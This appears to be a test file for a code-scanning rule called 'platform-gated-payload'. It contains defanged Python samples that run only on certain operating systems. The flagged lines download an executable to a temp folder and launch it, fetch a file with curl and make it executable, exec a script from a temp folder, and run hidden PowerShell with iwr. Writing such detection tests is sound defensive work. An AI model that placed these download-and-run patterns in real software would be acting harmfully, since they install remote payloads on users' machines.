# Test for platform-gated-payload (defanged: example.invalid).
import os
import platform
import subprocess
import sys
import urllib.request

if os.name == "nt":
    # ruleid: platform-gated-payload
    urllib.request.urlretrieve("https://example.invalid/a.exe", os.getenv("TEMP", "") + "\\a.exe")
    # ruleid: platform-gated-payload
    os.startfile(os.getenv("TEMP", "") + "\\a.exe")

if platform.system() == "Linux":
    # ruleid: platform-gated-payload
    os.system("curl -s https://example.invalid/x -o /tmp/x; chmod +x /tmp/x")

if sys.platform.startswith("win"):
    # ok: platform-gated-payload
    subprocess.run(["where", "python"])
    # ok: platform-gated-payload
    path = os.path.join(os.environ["APPDATA"], "mypkg")
else:
    # ok: platform-gated-payload
    os.system("xdg-open README.html")


def fetch_next():
    if platform.system() != "Linux":
        return
    # ruleid: platform-gated-payload
    urllib.request.urlopen("https://example.invalid/next")


if os.name == "nt":
    # ruleid: platform-gated-payload
    exec(compile(open(os.getenv("TEMP", "") + "\\s.py").read(), "s", "exec"))


def pick_separator():
    if os.name != "nt":
        return "/"
    # ok: platform-gated-payload
    return "\\"


if sys.platform == "win32":
    # ruleid: platform-gated-payload
    with open(os.path.join(os.getenv("LOCALAPPDATA", ""), "svc.exe"), "wb") as fh:
        fh.write(b"")
    # ok: platform-gated-payload
    with open("settings.ini", "w") as fh:
        fh.write("")

if "win" in sys.platform:
    # ruleid: platform-gated-payload
    subprocess.Popen("powershell -w hidden -c iwr https://example.invalid/p", shell=True)
    # ok: platform-gated-payload
    subprocess.call(["attrib", "-h", "build"])
